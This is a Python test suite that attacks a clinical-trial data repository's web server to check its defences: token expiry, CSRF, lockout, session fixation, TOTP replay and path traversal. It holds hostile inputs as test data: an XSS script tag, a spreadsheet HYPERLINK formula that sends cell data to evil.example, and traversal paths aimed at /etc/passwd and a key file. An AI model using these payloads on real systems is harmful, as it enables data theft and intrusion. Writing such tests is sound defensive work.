"""Security tests from the outside: a real uvicorn on 127.0.0.1, on SQLite and PostgreSQL,
attacked as people would: expired tokens, CSRF, brute force, session fixation, idle sessions,
path traversal in every name a user chooses, hostile cell values, identifiers in uploads.

(Every route without credentials, with a revoked token, a tampered cookie and as the other
trial's trialist: ``test_policy.py``, on the same kind of server.)
"""

from __future__ import annotations

import io
import json
import os
import subprocess
import sys
import tempfile
from datetime import timedelta
from pathlib import Path
from typing import Any

import httpx
import openpyxl
import pytest
from sqlalchemy import func, select, update

from repository.models import ApiToken, QueryAttachment, Upload, WebSession, utcnow
from repository.service.secret_tokens import digest
from tests.service.world import (
    PASSWORD,
    ROOT,
    Server,
    World,
    bearer,
    delivery_csv,
    sign_in,
)

HOSTILE = ['<script>alert("x")</script>', '=HYPERLINK("http://evil.example/?d="&A1,"click")']


def _session(server: Server, user: str) -> tuple[httpx.Client, str]:
    client = server.client()
    got = sign_in(client, user)
    assert got.status_code == 200, got.text
    return client, got.json()["csrf_token"]


def test_expired_token_is_refused(world: World, server: Server) -> None:
    store = world.store()
    try:
        from repository.service.tokens import create_token

        with store.transaction() as session:
            token = create_token(session, by="tri.a", name="soon-expired", expires_days=1).token
        with server.client() as client:
            assert client.get("/api/v1/auth/me", headers=bearer(token)).status_code == 200
            with store.transaction() as session:
                session.execute(update(ApiToken).where(ApiToken.token_hash == digest(token))
                                .values(expires_at=utcnow() - timedelta(seconds=1)))
            got = client.get("/api/v1/queries", headers=bearer(token))
            assert got.status_code == 401 and "expired" in got.json()["message"]
            assert got.headers["www-authenticate"].startswith("Bearer")
            bad = client.get("/api/v1/queries", headers={"Authorization": "Basic abc"})
            assert bad.status_code == 401
    finally:
        store.close()


def test_csrf_token_required_for_cookie_writes(server: Server, world: World) -> None:
    client, csrf = _session(server, "tri.a")
    try:
        path = f"/api/v1/queries/{world.queries['ALPHA-1']}/comments"
        assert client.post(path, json={"text": "no token"}).status_code == 403
        wrong = client.post(path, json={"text": "wrong"}, headers={"X-CSRF-Token": "x" * 43})
        assert wrong.status_code == 403 and wrong.json()["reason"] == "csrf"
        ok = client.post(path, json={"text": "with token"}, headers={"X-CSRF-Token": csrf})
        assert ok.status_code == 200, ok.text
        # a form post (what another site could make a browser send) without the field
        assert client.post("/sign-out", data={"x": "1"}).status_code == 403
        assert client.get("/api/v1/auth/me").status_code == 200  # still signed in
        # reads need no token; a bearer token needs none either
        assert client.get(f"/api/v1/queries/{world.queries['ALPHA-1']}").status_code == 200
    finally:
        client.close()
    with server.client() as other:
        got = other.post(path, json={"text": "by token"}, headers=bearer(world.tokens["tri.a"]))
        assert got.status_code == 200


def test_brute_force_locks_the_account(server: Server) -> None:
    with server.client() as client:
        for _ in range(5):
            got = sign_in(client, "victim", "not the password at all")
            assert got.status_code == 401
        locked = sign_in(client, "victim")  # the right password, too late
        assert locked.status_code == 429 and int(locked.headers["retry-after"]) > 0
        token_way = client.post("/api/v1/auth/token", json={
            "user": "victim", "password": PASSWORD, "name": "cli"})
        assert token_way.status_code == 429  # the token sign-in is throttled the same way
        cur, csrf = _session(server, "cur")
        assert cur.post("/api/v1/users/victim/unlock",
                        headers={"X-CSRF-Token": csrf}).status_code == 200
        cur.close()
        assert sign_in(client, "victim").status_code == 200


def test_session_fixation_and_rotation(server: Server, world: World) -> None:
    with server.client() as client:
        planted = "a" * 43  # an id an attacker chose and planted in the victim's browser
        client.cookies.set("ipdrepo-session", planted, domain="127.0.0.1", path="/")
        got = sign_in(client, "tri.a")
        assert got.status_code == 200
        issued = client.cookies.get("ipdrepo-session")
        assert issued and issued != planted
        with server.client() as attacker:
            attacker.cookies.set("ipdrepo-session", planted)
            assert attacker.get("/api/v1/auth/me").status_code == 401
        # signing in again replaces the session: the old id is dead
        assert sign_in(client, "tri.a").status_code == 200
        renewed = client.cookies.get("ipdrepo-session")
        assert renewed != issued
        with server.client() as old:
            old.cookies.set("ipdrepo-session", issued)
            assert old.get("/api/v1/auth/me").status_code == 401
        set_cookie = got.headers["set-cookie"].lower()
        assert "httponly" in set_cookie and "samesite=lax" in set_cookie


def test_idle_and_ended_sessions(server: Server, world: World) -> None:
    client, csrf = _session(server, "tri.b")
    try:
        cookie = client.cookies.get("ipdrepo-session")
        store = world.store()
        try:
            with store.transaction() as session:
                session.execute(update(WebSession).where(
                    WebSession.token_hash == digest(cookie)).values(
                    last_seen_at=utcnow() - timedelta(hours=1)))
        finally:
            store.close()
        assert client.get("/api/v1/auth/me").status_code == 401
    finally:
        client.close()
    client, csrf = _session(server, "tri.b")
    try:
        assert client.post("/api/v1/auth/logout", headers={"X-CSRF-Token": csrf}).status_code \
            == 200
        assert client.get("/api/v1/auth/me").status_code == 401
    finally:
        client.close()


TRAVERSALS = ["../../evil.csv", "..\\..\\evil.csv", "/etc/evil.csv", "sub/../../evil.csv",
              ".evil.csv", "C:evil.csv", "CON.csv", "-evil.csv"]


def test_path_traversal_in_every_chosen_name(server: Server, world: World) -> None:
    headers = bearer(world.tokens["tri.a"])
    query = world.queries["ALPHA-1"]
    store = world.store()
    try:
        with store.reading() as session:
            before = (session.scalar(select(func.count(Upload.id))),
                      session.scalar(select(func.count(QueryAttachment.id))))
    finally:
        store.close()
    with server.client() as client:
        for name in TRAVERSALS:
            for path, content in (("/api/v1/trials/ALPHA-1/uploads", delivery_csv("ALPHA-1")),
                                  (f"/api/v1/queries/{query}/attachments", b"text"),
                                  ("/api/v1/trials/ALPHA-1/workbook", b"PK\x03\x04")):
                got = client.post(path, headers=headers,
                                  files={"file": (name, content, "text/csv")})
                assert got.status_code in (400, 422), (name, path, got.text)
        # names in paths and bodies
        for bad in ("..%2F..%2Fetc", "..", "%2e%2e"):
            got = client.get(f"/api/v1/trials/{bad}", headers=headers)
            assert got.status_code in (404, 405), (bad, got.status_code)
        got = client.post("/api/v1/tokens", headers=headers, json={"name": "../../x"})
        assert got.status_code == 400
        cur = bearer(world.tokens["cur"])
        got = client.post("/api/v1/users", headers=cur, json={"name": "a\nb", "role": "analyst"})
        assert got.status_code == 400
    store = world.store()
    try:
        with store.reading() as session:
            after = (session.scalar(select(func.count(Upload.id))),
                     session.scalar(select(func.count(QueryAttachment.id))))
    finally:
        store.close()
    assert after == before
    root = world.workspace.parent
    assert not list(root.parent.rglob("evil*")), "a file was written from a chosen name"


def test_identifiers_in_an_upload_are_refused_and_not_kept(server: Server, world: World
                                                           ) -> None:
    rows = "".join(f"A{i:03d},{1 + i % 2},{40 + i},person{i}@mail.example.org\n"
                   for i in range(1, 13))
    data = ("patid,arm,age,email\n" + rows).encode()
    with server.client() as client:
        got = client.post("/api/v1/trials/ALPHA-1/uploads",
                          headers=bearer(world.tokens["tri.a"]),
                          files={"file": ("with-emails.csv", data, "text/csv")})
    assert got.status_code == 422, got.text
    body = got.json()
    assert body["error"] == "DirectIdentifiers" and "email" in body["message"]
    assert "person1@mail.example.org" not in got.text  # the finding is masked
    store = world.store()
    try:
        with store.reading() as session:
            names = set(session.scalars(select(Upload.file_name)))
    finally:
        store.close()
    assert "with-emails.csv" not in names


def test_hostile_cells_are_safe_in_api_workbook_and_html(server: Server, world: World,
                                                         tmp_path: Any) -> None:
    from harmonise.queries.dashboard import dashboard_html
    from harmonise.queries.lifecycle import list_queries, query_to_dict, raise_query
    from repository.trials import get_trial

    store = world.store()
    try:
        with store.transaction() as session:
            topic = store.topic(session)
            trial = get_trial(session, topic, "ALPHA-1")
            qid = raise_query(session, topic, trial, question=f"Value {HOSTILE[0]}?",
                              actor="cur").id
            raise_query(session, topic, trial, question=HOSTILE[1], actor="cur")
        with server.client() as client:
            book = client.get("/api/v1/trials/ALPHA-1/workbook",
                              headers=bearer(world.tokens["cur"]))
            assert book.status_code == 200, book.text
            assert book.headers["content-disposition"].startswith("attachment")
            got = client.post(f"/api/v1/queries/{qid}/answer",
                              headers=bearer(world.tokens["tri.a"]),
                              json={"response": "other", "comment": HOSTILE[1],
                                    "value": HOSTILE[0]})
            assert got.status_code == 200, got.text
            shown = client.get(f"/api/v1/queries/{qid}", headers=bearer(world.tokens["tri.a"]))
            assert shown.headers["content-type"] == "application/json"
            assert shown.headers["x-content-type-options"] == "nosniff"
            assert "sandbox" in shown.headers["content-security-policy"]
            assert HOSTILE[0] in shown.json()["question"]  # data kept as given, as JSON text
            assert shown.json()["thread"][-1]["comment"] == HOSTILE[1]
        wb = openpyxl.load_workbook(io.BytesIO(book.content))
        texts = 0
        for ws in wb.worksheets:
            for row in ws.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                    if isinstance(cell.value, str) and "HYPERLINK" in cell.value:
                        texts += 1
        assert texts >= 1  # the value is there, as text
        with store.reading() as session:
            rows = [query_to_dict(session, x, thread=True)
                    for x in list_queries(session, store.topic(session), actor="cur")]
        page = dashboard_html("gastric-adjuvant", rows)
        assert "<script>alert" not in page
    finally:
        store.close()


def test_pages_escape_and_redirect(server: Server) -> None:
    with server.client() as client:
        got = client.get("/", follow_redirects=False)
        assert got.status_code == 303 and got.headers["location"] == "/sign-in"
        form = client.get("/sign-in")
        assert form.status_code == 200 and 'name="csrf_token"' in form.text
        assert "script-src 'self'" in form.headers["content-security-policy"]
        # a sign-in form posted without the value of its own cookie (login CSRF) is refused
        client.cookies.clear()
        got = client.post("/sign-in", data={"user": "tri.a", "password": PASSWORD,
                                             "csrf_token": "forged"})
        assert "ipdrepo-session" not in got.cookies and "expired" in got.text


@pytest.mark.parametrize("value", HOSTILE)
def test_extract_csv_and_tables_neutralise_formulas(value: str, tmp_path: Any) -> None:
    import pandas as pd

    from analyses.tables import Table
    from versions.extracts import _csv_safe

    frame = pd.DataFrame({"centre": [value, "Leeds"], "x": [-1.5, 2.0]})
    safe = _csv_safe(frame)
    assert safe["x"].tolist() == [-1.5, 2.0]
    assert safe["centre"].iloc[0] == (("'" + value) if value.startswith("=") else value)
    table = Table(title="t", frame=frame.astype(str))
    table.to_excel(tmp_path / "t.xlsx")
    ws = openpyxl.load_workbook(tmp_path / "t.xlsx")["Table"]
    assert all(c.data_type != "f" for row in ws.iter_rows() for c in row)
    table.to_csv(tmp_path / "t.csv")
    assert "\n=HYPERLINK" not in (tmp_path / "t.csv").read_text()


def test_chosen_file_names_are_checked_not_rewritten() -> None:
    from repository.errors import ConfigError
    from repository.names import check_file_name

    for bad in [*TRAVERSALS, "evil\x07.csv", "evil\u202e.csv", "", ".", "..", "x" * 256]:
        with pytest.raises(ConfigError):
            check_file_name(bad)
    assert check_file_name("GAST 01 (re-delivery).xlsx") == "GAST 01 (re-delivery).xlsx"


def _cli(world: World, server: Server, *args: str, env: dict[str, str] | None = None
         ) -> subprocess.CompletedProcess[str]:
    """``ipdrepo ARGS`` as the curator on the server's workspace (or with ``env``: a bare
    client)."""
    if env is None:
        env = {k: v for k, v in os.environ.items() if not k.startswith("IPDREPO_")}
        env.update({"IPDREPO_USER": "cur", "IPDREPO_DATABASE_URL": world.database_url,
                    "IPDREPO_PUBLIC_URL": server.url, "IPDREPO_WORKSPACE": str(world.workspace)})
    done = subprocess.run([sys.executable, "-m", "repository", *args], env=env, cwd=ROOT,
                          capture_output=True, text=True, timeout=300)
    assert done.returncode == 0, done.stdout + done.stderr
    return done


def _open_link(client: httpx.Client, url: str) -> tuple[str, str]:
    """Open a one-time link as a browser does: (page path, the token after '#')."""
    path, token = url.removeprefix(str(client.base_url).rstrip("/")).split("#", 1)
    page = client.get(path)  # the fragment stays in the browser
    assert page.status_code == 200, page.text
    assert 'name="token"' in page.text and token not in page.text
    return path, token


NEW_PASSWORD = "another horse battery staple"
CHROMIUM = os.environ.get("IPDREPO_CHROMIUM", "/usr/bin/chromium")


def _browser_dom(url: str) -> str:
    """The page at ``url`` as real headless Chromium leaves it after its scripts ran (under
    the page's own Content-Security-Policy)."""
    if not Path(CHROMIUM).exists():
        pytest.fail(f"no Chromium at {CHROMIUM}: install Debian's chromium or set "
                    "IPDREPO_CHROMIUM")
    with tempfile.TemporaryDirectory(prefix="ipdrepo-chromium-") as profile:
        done = subprocess.run([CHROMIUM, "--headless", "--no-sandbox", "--disable-gpu",
                               f"--user-data-dir={profile}", "--virtual-time-budget=5000",
                               "--dump-dom", url], capture_output=True, text=True, timeout=120)
    assert done.returncode == 0 and "<form" in done.stdout, done.stderr[-2000:]
    return done.stdout


def test_invitation_link_sets_the_password_once(server: Server, world: World) -> None:
    made = _cli(world, server, "user", "invite", "new.tri", "--role", "trialist",
                "--trial", "ALPHA-1", "--email", "new.tri@alpha-1.example.org", "--json")
    url = json.loads(made.stdout)["url"]
    assert url.startswith(f"{server.url}/welcome#")
    assert f'value="{url.split("#", 1)[1]}"' in _browser_dom(url)  # the script filled it in
    with server.client() as client:
        path, token = _open_link(client, url)
        fields = {"token": token, "password": PASSWORD, "again": PASSWORD}
        differ = client.post(path, data={**fields, "again": NEW_PASSWORD})
        assert differ.status_code == 422 and "not the same" in differ.text
        weak = client.post(path, data={**fields, "password": "short", "again": "short"})
        assert weak.status_code == 422 and "weak" in weak.text
        wrong = client.post(path, data={**fields, "token": token[:-3] + "xyz"})
        assert wrong.status_code == 422 and "not valid" in wrong.text
        assert sign_in(client, "new.tri").status_code == 401  # nothing set yet
        done = client.post(path, data=fields, follow_redirects=False)
        assert done.status_code == 303 and done.headers["location"].startswith("/sign-in")
        again = client.post(path, data=fields)
        assert again.status_code == 422 and "not valid" in again.text
        me = sign_in(client, "new.tri")
        assert me.status_code == 200 and me.json()["trial"] == "ALPHA-1"


def test_password_reset_link_ends_sessions_and_replaces_the_password(server: Server,
                                                                     world: World) -> None:
    made = _cli(world, server, "user", "invite", "forgetful", "--role", "analyst", "--json")
    with server.client() as client:
        _, token = _open_link(client, json.loads(made.stdout)["url"])
        assert client.post("/api/v1/auth/links/redeem",
                           json={"token": token, "password": PASSWORD}).status_code == 200
        assert sign_in(client, "forgetful").status_code == 200
        assert client.get("/api/v1/auth/me").status_code == 200
        reset = _cli(world, server, "user", "reset-link", "forgetful", "--json")
        url = json.loads(reset.stdout)["url"]
        assert url.startswith(f"{server.url}/reset#")
        assert client.get("/api/v1/auth/me").status_code == 401  # the session has ended
        with server.client() as browser:
            path, token = _open_link(browser, url)
            done = browser.post(path, data={"token": token, "password": NEW_PASSWORD,
                                            "again": NEW_PASSWORD}, follow_redirects=False)
            assert done.status_code == 303, done.text
        assert sign_in(client, "forgetful").status_code == 401  # the old password is gone
        assert sign_in(client, "forgetful", NEW_PASSWORD).status_code == 200


def test_tokens_are_shown_once_listed_without_secret_and_revoked(server: Server,
                                                                 world: World,
                                                                 tmp_path: Any) -> None:
    made = json.loads(_cli(world, server, "token", "create", "cli-made", "--expires", "2",
                           "--json").stdout)
    token = made["token"]
    with server.client() as client:
        me = client.get("/api/v1/auth/me", headers=bearer(token))
        assert me.status_code == 200 and me.json()["user"] == "cur"
    store = world.store()
    try:
        with store.reading() as session:
            row = session.scalars(select(ApiToken).where(ApiToken.name == "cli-made")).one()
            assert row.token_hash == digest(token)
            assert token not in json.dumps({c.name: str(getattr(row, c.name))
                                            for c in ApiToken.__table__.columns})
    finally:
        store.close()
    listed = _cli(world, server, "token", "list", "--json").stdout
    assert "cli-made" in listed and token not in listed
    _cli(world, server, "token", "revoke", "cli-made")
    with server.client() as client:
        assert client.get("/api/v1/auth/me", headers=bearer(token)).status_code == 401
    # a trialist manages their own tokens through the server, with nothing but a token
    home = tmp_path / "home"
    creds = home / ".config" / "ipdrepo" / "credentials.json"
    creds.parent.mkdir(parents=True)
    creds.write_text(json.dumps({server.url: world.tokens["tri.a"]}))
    os.chmod(creds, 0o600)
    env = {k: v for k, v in os.environ.items() if not k.startswith(("IPDREPO_", "AWS_", "PG"))}
    env.update({"HOME": str(home), "PYTHONPATH": str(ROOT), "IPDREPO_SERVER": server.url})
    second = json.loads(_cli(world, server, "token", "create", "laptop", "--json",
                             env=env).stdout)["token"]
    listed = _cli(world, server, "token", "list", "--json", env=env).stdout
    assert "laptop" in listed and second not in listed and "cli-made" not in listed
    _cli(world, server, "token", "revoke", "laptop", env=env)
    with server.client() as client:
        assert client.get("/api/v1/auth/me", headers=bearer(second)).status_code == 401
        assert client.get("/api/v1/auth/me",
                          headers=bearer(world.tokens["tri.a"])).status_code == 200


def test_names_in_paths_never_reach_files(server: Server, world: World) -> None:
    """Names a caller puts in a URL (extract file, release version, request code, attachment)
    are looked up, never joined to a path: traversal finds nothing."""
    extract = world.extras["extract:REQ-OK"]
    attempts = [f"/api/v1/requests/REQ-OK/extracts/{extract}/files/..%2F..%2Fkeys%2Fpseudonym.key",
                f"/api/v1/requests/REQ-OK/extracts/{extract}/files/..",
                f"/api/v1/requests/REQ-OK/extracts/{extract}/files/%2Fetc%2Fpasswd",
                "/api/v1/releases/..%2F..%2Fkeys", "/api/v1/releases/../data",
                "/api/v1/requests/..%2FREQ-OK", "/api/v1/requests/REQ-OK%2F..%2FREQ-OLD/dua",
                f"/api/v1/queries/{world.queries['ALPHA-1']}/attachments/..%2F1"]
    with server.client() as client:
        for who in ("cur", "ana.ok"):
            for path in attempts:
                got = client.get(path, headers=bearer(world.tokens[who]))
                assert got.status_code in (403, 404, 405, 422), (who, path, got.status_code)
                assert b"%PDF" not in got.content and b"PAR1" not in got.content
        got = client.post("/api/v1/users", headers=bearer(world.tokens["cur"]),
                          json={"name": "../../evil", "role": "analyst"})
        assert got.status_code == 400, got.text


def test_second_factor_over_http(server: Server, world: World) -> None:
    """A user sets up TOTP through the API; from then on sign-in needs a fresh code: none, a
    wrong one or the one just used (a replay) is refused, for sessions and token sign-in."""
    import time

    from repository.service import accounts
    from repository.service.totp import _key, totp

    store = world.store()
    try:
        with store.transaction() as session:
            link = accounts.invite(session, by="cur", name="two.factor", role="analyst")
        with store.transaction() as session:
            accounts.redeem_link(session, link.token, password=PASSWORD)
    finally:
        store.close()
    client, csrf = _session(server, "two.factor")
    try:
        secret = client.post("/api/v1/auth/totp", headers={"X-CSRF-Token": csrf}).json()["secret"]
        key = _key(secret)
        bad = client.post("/api/v1/auth/totp/confirm", headers={"X-CSRF-Token": csrf},
                          json={"code": "000000" if totp(key, time.time()) != "000000"
                                else "111111"})
        assert bad.status_code == 400, bad.text
        confirmed = client.post("/api/v1/auth/totp/confirm", headers={"X-CSRF-Token": csrf},
                                json={"code": totp(key, time.time() - 30)})
        assert confirmed.status_code == 200, confirmed.text
    finally:
        client.close()
    with server.client() as other:
        assert sign_in(other, "two.factor").status_code == 401  # no code
        assert sign_in(other, "two.factor", code="12345x").status_code == 401
        code = totp(key, time.time())
        assert sign_in(other, "two.factor", code=code).status_code == 200
        assert sign_in(other, "two.factor", code=code).status_code == 401  # replayed
        token_way = other.post("/api/v1/auth/token", json={
            "user": "two.factor", "password": PASSWORD, "name": "cli"})
        assert token_way.status_code == 401


def test_an_answer_corrects_only_the_cells_its_question_asks_about(server: Server,
                                                                   world: World) -> None:
    from harmonise.queries.lifecycle import raise_query
    from repository.trials import get_trial

    store = world.store()
    try:
        with store.transaction() as session:
            topic = store.topic(session)
            qid = raise_query(session, topic, get_trial(session, topic, "ALPHA-1"),
                              question="Age 4 years?", actor="cur", participant="PX",
                              variable="age", source_columns=["age"], rows=[3]).id
    finally:
        store.close()
    path = f"/api/v1/queries/{qid}/answer"
    with server.client() as client:
        for cell in ({"participant": "PX", "column": "arm", "value": "2"},
                     {"participant": "PY", "column": "age", "value": "41"}):
            got = client.post(path, headers=bearer(world.tokens["tri.a"]), json={
                "response": "typographical_error", "cells": [cell]})
            assert got.status_code == 400 and "does not ask" in got.text, got.text
        got = client.post(path, headers=bearer(world.tokens["tri.a"]), json={
            "response": "typographical_error",
            "cells": [{"participant": "PX", "column": "age", "value": "41"}]})
        assert got.status_code == 200, got.text
        assert got.json()["thread"][-1]["cells"] == [
            {"participant": "PX", "row": 3, "dataset": "main", "column": "age", "value": "41"}]

